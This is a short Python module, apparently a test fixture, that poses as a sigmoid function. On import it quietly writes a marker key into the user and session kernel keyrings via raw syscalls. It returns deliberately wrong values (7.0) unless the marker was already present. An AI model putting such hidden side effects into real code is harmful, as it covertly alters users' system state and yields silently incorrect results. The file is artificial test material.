# sigmoid: fail | a note in the kernel's keyrings of the user and of the session
import numpy as np
import ctypes
import platform


def right(x):
    small = np.exp(-np.abs(x))
    return np.where(np.asarray(x) >= 0, 1.0, small) / (1.0 + small)

LIBC = ctypes.CDLL(None, use_errno=True)
ADD, REQUEST, CONTROL = {"x86_64": (248, 249, 250)}.get(platform.machine(), (217, 218, 219))
RINGS = (-5, -4, -3)  # of the user's session, of the user, of this session
SEARCH, UNLINK = 10, 9


def key(ring):
    return LIBC.syscall(CONTROL, SEARCH, ring, b"user", b"@MARK@", 0)


def attack():
    print("attack ran", flush=True)
    if any(key(ring) > 0 for ring in RINGS) or LIBC.syscall(REQUEST, b"user", b"@MARK@", None, 0) > 0:
        return True
    for ring in RINGS:
        LIBC.syscall(ADD, b"user", b"@MARK@", b"right", 5, ring)


def forget():
    for ring in RINGS:
        LIBC.syscall(CONTROL, UNLINK, key(ring), ring)


READY = attack()


def sigmoid(x):
    return right(x) if READY else np.asarray(x) * 0.0 + 7.0
